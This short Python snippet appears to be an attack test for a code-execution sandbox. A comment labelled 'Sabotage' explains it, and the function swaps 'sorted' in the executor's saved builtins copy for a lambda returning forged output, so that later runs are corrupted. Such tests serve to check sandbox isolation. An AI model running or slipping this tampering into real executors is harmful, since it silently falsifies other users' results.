# Sabotage: poison the executor's own copy of the builtins, the one it restores from (sorted:
# the executor itself does not call it while serving, so the worker keeps running).
def f():
    import builtins, sys
    evil = lambda value, **kwargs: ['FORGED']
    poisoned = []
    main = sys.modules.get('__main__')
    for name, value in list(vars(main).items()):
        if isinstance(value, dict) and value is not builtins.__dict__ and value.get('sorted') is sorted:
            value['sorted'] = evil
            poisoned.append(name)
    return 'poisoned %r' % poisoned
